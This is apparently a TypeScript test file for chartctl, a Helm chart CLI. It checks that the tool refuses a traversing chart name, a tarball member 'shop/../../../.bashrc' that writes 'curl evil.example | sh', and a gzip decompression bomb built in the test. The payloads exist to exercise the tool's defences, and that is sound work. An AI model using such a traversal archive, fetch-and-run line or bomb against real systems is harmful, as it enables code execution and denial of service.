import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { gzipSync } from 'node:zlib';
import { copyExampleApp, runCli } from '../support/project.js';
import { isolateRepositories, startTestS3, testRepository, type TestS3 } from '../support/s3.js';
import { writeTar } from '../../src/core/tar-archive.js';

let s3: TestS3;
let app: { dir: string; remove: () => void };
let root: string;
const enc = new TextEncoder();
const cli = (args: string[], env: Record<string, string> = {}) => runCli(['--cwd', app.dir, ...args], { env: { ...s3.env, ...env }, timeoutMs: 90_000 });

before(async () => {
  s3 = await startTestS3();
  app = copyExampleApp();
  root = isolateRepositories(app.dir, s3);
});
after(async () => {
  app?.remove();
  await s3?.close();
});

/** Every path under `dir`, directories included, to compare the file system before and after. */
function tree(dir: string): string[] {
  return (readdirSync(dir, { recursive: true }) as string[]).map((p) => relative(dir, join(dir, p))).sort();
}

const errorOf = (stdout: string) => (JSON.parse(stdout) as { error: { code: string; message: string } }).error;

test('package refuses a chart named ../../evil and writes nothing, inside or outside --destination', async () => {
  const base = mkdtempSync(join(tmpdir(), 'chartctl-evil-name-'));
  // api has no dependencies, so no `helm dependency build` runs first (helm would refuse the name there).
  const chartYaml = join(app.dir, 'charts', 'api', 'Chart.yaml');
  const original = readFileSync(chartYaml, 'utf8');
  try {
    const destination = join(base, 'out', 'ci', 'dist');
    mkdirSync(destination, { recursive: true });
    writeFileSync(chartYaml, original.replace(/^name: api$/m, 'name: ../../evil'));
    const appBefore = tree(app.dir);
    const result = await cli(['package', '--chart', 'charts/api', '--destination', destination, '--output', 'json']);
    assert.equal(result.exitCode, 1, result.stdout + result.stderr);
    const error = errorOf(result.stdout);
    assert.equal(error.code, 'CHART_INVALID');
    assert.match(error.message, /charts\/api\/Chart\.yaml: Chart\.yaml name "\.\.\/\.\.\/evil" contains a path separator/);
    assert.deepEqual(tree(base), ['out', 'out/ci', 'out/ci/dist'], 'no evil-0.1.0.tgz two folders above --destination, nothing in it');
    assert.deepEqual(tree(app.dir), appBefore, 'nothing written in the application repository either');
  } finally {
    writeFileSync(chartYaml, original);
    rmSync(base, { recursive: true, force: true });
  }
});

test('publish --package refuses a tarball with a traversing member and uploads nothing', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'chartctl-evil-tgz-'));
  try {
    const tgz = join(dir, 'shop-7.7.7.tgz');
    writeFileSync(
      tgz,
      gzipSync(
        writeTar([
          { path: 'shop/Chart.yaml', data: enc.encode('apiVersion: v2\nname: shop\nversion: 7.7.7\n') },
          { path: 'shop/../../../.bashrc', data: enc.encode('curl evil.example | sh\n') },
        ]),
      ),
    );
    const result = await cli(['publish', 'dev', '--package', tgz, '--output', 'json']);
    assert.equal(result.exitCode, 1, result.stdout + result.stderr);
    const error = errorOf(result.stdout);
    assert.equal(error.code, 'ARCHIVE_UNSAFE');
    assert.match(error.message, /shop-7\.7\.7\.tgz: archive member "shop\/\.\.\/\.\.\/\.\.\/\.bashrc" leaves the archive's directory/);
    assert.equal(await testRepository(s3, root, 'dev').head('shop-7.7.7.tgz'), undefined, 'nothing uploaded');
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('repo reindex --dry-run refuses a decompression bomb in the bucket, naming its key; the limit is configurable', async () => {
  // 25 files of 4.5 MiB of zeros (each under helm's 5 MiB file limit): 112 MiB decompressed, about 110 KB stored.
  const zeros = new Uint8Array(4.5 * 1024 * 1024);
  const files = [{ path: 'shop/Chart.yaml', data: enc.encode('apiVersion: v2\nname: shop\nversion: 6.6.6\n') }];
  for (let i = 0; i < 25; i++) files.push({ path: `shop/files/zeros-${i}.bin`, data: zeros });
  const bomb = gzipSync(writeTar(files), { level: 9 });
  const dev = testRepository(s3, root, 'dev');
  await dev.put('shop-6.6.6.tgz', bomb);
  try {
    const key = `s3://${s3.bucket}/${root}/dev/shop-6.6.6.tgz`;
    const refused = await cli(['repo', 'reindex', 'dev', '--dry-run', '--output', 'json']);
    assert.equal(refused.exitCode, 1, refused.stdout + refused.stderr);
    const error = errorOf(refused.stdout);
    assert.equal(error.code, 'CHART_TOO_LARGE');
    assert.equal(error.message, `${key}: decompresses to more than 100 MiB, the limit for one chart (subcharts included); decompression stopped there.`);

    // Stored size over the limit: refused from the listing, before it is downloaded.
    const small = await cli(['repo', 'reindex', 'dev', '--dry-run', '--output', 'json'], { CHARTCTL_MAX_CHART_SIZE: '64Ki' });
    assert.equal(small.exitCode, 1, small.stdout + small.stderr);
    assert.match(errorOf(small.stdout).message, new RegExp(`^${key.replace(/[.+]/g, '\\$&')}: the archive is ${bomb.length} bytes compressed, more than the 64 KiB`));

    const raised = await cli(['repo', 'reindex', 'dev', '--dry-run', '--output', 'json'], { CHARTCTL_MAX_CHART_SIZE: '200Mi' });
    assert.equal(raised.exitCode, 0, raised.stdout + raised.stderr);
    assert.equal((JSON.parse(raised.stdout) as { entries: number }).entries, 1, 'with a raised limit the same tarball is read');

    const bad = await cli(['repo', 'reindex', 'dev', '--dry-run'], { CHARTCTL_MAX_FILE_SIZE: 'lots' });
    assert.equal(bad.exitCode, 1);
    assert.match(bad.stderr, /CHARTCTL_MAX_FILE_SIZE=lots is not a size/);
  } finally {
    await dev.delete('shop-6.6.6.tgz');
  }
});
